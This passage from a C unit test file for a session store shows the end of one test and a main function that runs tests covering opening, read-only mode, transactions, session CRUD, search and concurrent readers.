	CHECK(ids.n == 2 && ids.id[0] == b);
	kt_store_close(ro);
	kt_store_close(st);
}

int main(void)
{
	if (store_fx_begin("test_store"))
		return 1;

	RUN(t_create_reopen);
	RUN(t_open_missing);
	RUN(t_open_not_db);
	RUN(t_open_newer_version);
	RUN(t_rdonly_refuses_writes);
	RUN(t_transactions);
	RUN(t_session_crud);
	RUN(t_session_list_filters);
	RUN(t_interrupt_open);
	RUN(t_commands);
	RUN(t_search);
	RUN(t_reader_beside_writer);

	return store_fx_end();
}
